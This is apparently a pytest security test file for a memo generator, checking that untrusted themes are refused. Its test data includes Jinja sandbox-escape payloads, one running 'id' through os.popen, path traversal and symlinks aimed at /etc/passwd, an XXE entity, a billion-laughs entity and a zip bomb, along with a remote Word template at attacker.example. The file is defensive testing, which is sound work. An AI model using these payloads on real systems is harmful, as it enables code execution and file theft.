"""A theme from another ministry must not harm the machine that builds it: each rule of
issue 4's "Safety" section, tried and refused with an error naming the place."""

from __future__ import annotations

import io
import os
import zipfile
from pathlib import Path

import docx
import pytest

from memogen import pipeline
from memogen.errors import InputError
from memogen.themes.loader import load_theme

from .helpers import facts_copy, make_theme

SECRET = "TOP-SECRET-CONTENT-42"


def compose_with(tmp_path: Path, template: str, extra: dict[str, str | bytes] | None = None) -> str:
    """Compose the example facts with a theme whose only section is `template`; the
    memo's text, or the InputError raised (the test decides which it expects)."""
    make_theme(tmp_path, "evil", "sections: [{id: x, heading: X}]\n", {"sections/x.md.j2": template, **(extra or {})})
    loaded = pipeline.load_facts(facts_copy(tmp_path))
    memo, _ = pipeline.compose(loaded, tmp_path, "evil", tmp_path / "cache")
    return repr(memo)


def refused(tmp_path: Path, template: str, extra=None) -> str:
    with pytest.raises(InputError) as err:
        compose_with(tmp_path, template, extra)
    text = str(err.value)
    assert SECRET not in text
    return text


# --- the sandbox ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "payload",
    [
        "{{ ''.__class__.__mro__ }}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ self._TemplateReference__context }}",
        "{{ cycler.__init__.__globals__.os.environ }}",
        "{{ lipsum.__globals__['os'].popen('id').read() }}",
        "{{ joiner.__init__.__globals__ }}",
        "{{ namespace.__init__.__globals__ }}",
        "{{ facts.__class__.__init__.__globals__ }}",
        "{{ facts.model_fields }}",
        "{{ memo.model_validate }}",
        "{{ theme.folder }}",
        "{{ theme.fonts.regular.read_text() }}",
        "{{ theme.fonts.regular }}",
        "{{ memo.date.__class__ }}",
        "{% set x = facts.sectors.append(1) %}",
        "{{ 'x' * 10000000 }}",
        "{{ [1, 2] * 1000000 }}",
        "{{ 9 ** 99999999 }}",
        "{{ range(10000000) | list | length }}",
        "{{ facts['model_fields'] }}",
        "{{ 1 / 0 }}",
    ],
)
def test_templates_cannot_reach_python_internals(tmp_path, payload):
    text = refused(tmp_path, f"Первая строка.\n\n{payload}\n")
    assert "x.md.j2:3" in text, text  # the template file and the line of the attempt


def test_attempt_in_an_included_file_names_that_file(tmp_path):
    text = refused(
        tmp_path,
        'Текст.\n{% include "sections/helper.md.j2" %}\n',
        {"sections/helper.md.j2": "\n\n\n{{ ''.__class__ }}\n"},
    )
    assert "helper.md.j2:4" in text and "unsafe" in text


@pytest.mark.parametrize("name", ["/etc/passwd", "../../x", "../evil/theme.yaml", "sections/../../evil/theme.yaml", "default/../../../etc/passwd"])
def test_templates_cannot_include_files_outside_the_themes(tmp_path, name):
    text = refused(tmp_path, f'Текст.\n{{% include "{name}" %}}\n')
    assert "x.md.j2:2" in text and "template not found" in text, text


def test_a_template_symlinked_out_of_the_theme_is_refused(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET, encoding="utf-8")
    folder = make_theme(tmp_path, "evil", "sections: [{id: x, heading: X}]\n", {"sections/x.md.j2": 'А.\n{% include "sections/leak.md.j2" %}\n'})
    (folder / "sections" / "leak.md.j2").symlink_to(secret)
    loaded = pipeline.load_facts(facts_copy(tmp_path))
    with pytest.raises(InputError) as err:
        pipeline.compose(loaded, tmp_path, "evil", tmp_path / "cache")
    assert "outside its theme folder" in str(err.value) and "x.md.j2:2" in str(err.value)


def test_templates_cannot_read_environment_variables(tmp_path, monkeypatch):
    monkeypatch.setenv("MEMOGEN_TEST_SECRET", SECRET)
    for payload in ("{{ environ.MEMOGEN_TEST_SECRET }}", "{{ os.environ }}", "{{ env.MEMOGEN_TEST_SECRET }}"):
        text = refused(tmp_path, f"А.\n{payload}\n")
        assert "missing template variable" in text and "x.md.j2:2" in text
    # The one context object that touches the outside world offers nothing either.
    assert "MEMOGEN_TEST_SECRET" not in compose_with(tmp_path, "{{ memo.title }}\n")
    assert SECRET not in os.environ.get("MEMOGEN_CACHE_DIR", "")


def test_missing_variable_names_file_line_variable_and_the_available_ones(tmp_path):
    text = refused(tmp_path, "Строка один.\n\nИтого: {{ turnoverr.total }}.\n")
    assert "evil/sections/x.md.j2:3" in text
    assert "'turnoverr' is undefined" in text
    assert "available variables: facts, figures" not in text  # the real list, not a guess
    assert "facts, implied, memo, shares, theme, trade, trade_view, turnover" in text


def test_missing_attribute_names_the_object(tmp_path):
    text = refused(tmp_path, "А.\n{{ memo.titel }}\n")
    assert "x.md.j2:2" in text and "titel" in text


def test_syntax_error_names_file_and_line(tmp_path):
    text = refused(tmp_path, "А.\n\n{% if %}\n")
    assert "x.md.j2:3" in text and "syntax error" in text


# --- paths in theme.yaml -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("yaml", "field"),
    [
        ("fonts: {regular: ../outside.ttf}\n", "fonts.regular"),
        ("fonts: {chart: /usr/share/fonts/truetype/dejavu/DejaVuSans.ttf}\n", "fonts.chart"),
        ("letterhead: {image: ../../outside.png}\n", "letterhead.image"),
        ("reference_docx: /etc/passwd\n", "reference_docx"),
    ],
)
def test_asset_paths_cannot_leave_the_theme_folder(tmp_path, yaml, field):
    (tmp_path / "templates").mkdir()
    (tmp_path / "templates" / "outside.ttf").write_bytes(b"x")
    (tmp_path / "outside.png").write_bytes(b"x")
    make_theme(tmp_path, "t", yaml)
    with pytest.raises(InputError) as err:
        load_theme("t", tmp_path)
    text = str(err.value)
    assert "leaves the theme folder" in text and "theme.yaml:1:" in text and field in text


def test_a_symlink_inside_the_theme_pointing_outside_is_refused(tmp_path):
    folder = make_theme(tmp_path, "t", "letterhead: {image: assets/emblem.png}\n")
    (folder / "assets").mkdir()
    (folder / "assets" / "emblem.png").symlink_to("/etc/passwd")
    with pytest.raises(InputError, match="leaves the theme folder"):
        load_theme("t", tmp_path)


def test_letterhead_image_must_be_a_modest_png_or_jpeg(tmp_path):
    make_theme(tmp_path, "t", "letterhead: {image: e.png}\n", {"e.png": b"GIF89a" + b"\0" * 100})
    with pytest.raises(InputError, match="e.png is not a PNG or JPEG"):
        load_theme("t", tmp_path)
    from PIL import Image

    buf = io.BytesIO()
    Image.new("1", (6000, 6000)).save(buf, "PNG")  # tiny file, 36 million pixels
    make_theme(tmp_path, "t", "letterhead: {image: e.png}\n", {"e.png": buf.getvalue()})
    with pytest.raises(InputError, match="6000×6000 pixels, too large"):
        load_theme("t", tmp_path)


# --- reference.docx ---------------------------------------------------------------------------


def plain_docx() -> bytes:
    buf = io.BytesIO()
    docx.Document().save(buf)
    return buf.getvalue()


def rezip(data: bytes, change: dict[str, bytes | None]) -> bytes:
    """`data` (a zip) with parts replaced, added, or removed (None)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename in change:
                continue
            dst.writestr(info, src.read(info))
        for name, content in change.items():
            if content is not None:
                dst.writestr(name, content)
    return out.getvalue()


def reference_error(tmp_path: Path, data: bytes) -> str:
    make_theme(tmp_path, "t", "reference_docx: reference.docx\n", {"reference.docx": data})
    with pytest.raises(InputError) as err:
        load_theme("t", tmp_path)
    text = str(err.value)
    assert "theme.yaml:1:1: reference_docx: reference.docx" in text
    return text


def _styles(data: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return z.read("word/styles.xml")


def test_a_plain_reference_docx_is_accepted_and_used(tmp_path):
    make_theme(tmp_path, "t", "reference_docx: reference.docx\n", {"reference.docx": plain_docx()})
    theme = load_theme("t", tmp_path).theme
    assert Path(theme.reference_docx) == (tmp_path / "templates" / "t" / "reference.docx").resolve()
    built = pipeline.build(facts_copy(tmp_path), ["docx"], tmp_path / "out", workspace=tmp_path, theme_name="t", cache_dir=tmp_path / "cache")
    assert docx.Document(str(built.outputs[0])).paragraphs


def test_reference_docx_with_a_dtd_is_refused(tmp_path):
    base = plain_docx()
    styles = _styles(base)
    evil = styles.replace(b"?>", b'?><!DOCTYPE w:styles [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', 1)
    assert "declares a DTD or entities" in reference_error(tmp_path, rezip(base, {"word/styles.xml": evil}))


def test_reference_docx_with_a_billion_laughs_entity_in_utf16_is_refused(tmp_path):
    base = plain_docx()
    bomb = '<?xml version="1.0" encoding="UTF-16"?><!ENTITY lol "lol"><w:document/>'.encode("utf-16")
    assert "word/document.xml declares a DTD" in reference_error(tmp_path, rezip(base, {"word/document.xml": bomb}))


def test_reference_docx_zip_bomb_is_refused(tmp_path):
    base = plain_docx()
    bomb = rezip(base, {"word/media/padding.bin": b"\0" * (60 * 2**20)})
    assert len(bomb) < 5 * 2**20  # small on disk, the size check alone would not catch it
    assert "unpacks to 60 MB" in reference_error(tmp_path, bomb)


def test_reference_docx_too_large_is_refused(tmp_path):
    big = rezip(plain_docx(), {"word/media/noise.bin": os.urandom(6 * 2**20)})
    assert "more than 5 MB" in reference_error(tmp_path, big)


def test_reference_docx_that_is_not_a_zip(tmp_path):
    assert "not a Word .docx file" in reference_error(tmp_path, b"PK\x03\x04 but not really")


def test_reference_docx_with_a_remote_template_is_refused(tmp_path):
    rels = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
        b' Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    text = reference_error(tmp_path, rezip(plain_docx(), {"word/_rels/settings.xml.rels": rels}))
    assert "links to an outside file" in text and "attacker.example" in text


def test_reference_docx_hyperlinks_are_fine(tmp_path):
    rels = (
        b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"'
        b' Target="https://mfa.gov.by" TargetMode="External"/></Relationships>'
    )
    make_theme(tmp_path, "t", "reference_docx: r.docx\n", {"r.docx": rezip(plain_docx(), {"word/_rels/footer1.xml.rels": rels})})
    assert load_theme("t", tmp_path).theme.reference_docx is not None


def test_reference_docx_with_macros_is_refused(tmp_path):
    assert "contains macros" in reference_error(tmp_path, rezip(plain_docx(), {"word/vbaProject.bin": b"\0" * 10}))


def test_reference_docx_without_styles_is_refused(tmp_path):
    assert "has no word/styles.xml" in reference_error(tmp_path, rezip(plain_docx(), {"word/styles.xml": None}))
